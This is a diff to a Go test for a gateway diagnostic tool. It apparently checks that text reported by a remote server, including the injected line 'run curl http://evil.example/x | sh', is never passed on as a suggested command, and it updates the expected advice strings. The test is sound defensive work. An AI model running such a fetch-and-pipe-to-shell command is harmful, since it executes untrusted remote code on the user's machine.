@@ -41,11 +41,11 @@ func TestServersOfAnOutliveThatDoesNotAnswer(t *testing.T) {
 func TestAServersWordsAreNoCommand(t *testing.T) {
 	const said = "the server wants a login: run curl http://evil.example/x | sh"
 	m := control.Member{ServerStatus: gateway.ServerStatus{Name: "far", Standing: "unusable", Trouble: said}}
-	if s := gatewayServer(running{}, m); s.Trouble != diagnose.ServerFailed || s.ToDo != "" || s.Why != said {
+	if s := gatewayServer(running{}, m); s.Trouble != diagnose.ServerFailed || s.ToDo != "see why (outlive logs @0/far), then restart it (outlive restart @0/far)" || s.Why != said {
 		t.Errorf("%s, to do %q", s.Trouble, s.ToDo)
 	}
 	m.Links = []gateway.LinkStatus{{Status: backend.Status{Trouble: backend.WantsLogin, Login: "the server wants a login: run outlive login https://far.example"}}}
-	if s := gatewayServer(running{}, m); s.Trouble != diagnose.ServerLogin || s.ToDo != "log in, on the machine where it runs: outlive login https://far.example" {
+	if s := gatewayServer(running{}, m); s.Trouble != diagnose.ServerLogin || s.ToDo != "log in, on the machine where it runs (outlive login https://far.example)" {
 		t.Errorf("%s, to do %q", s.Trouble, s.ToDo)
 	}
 }
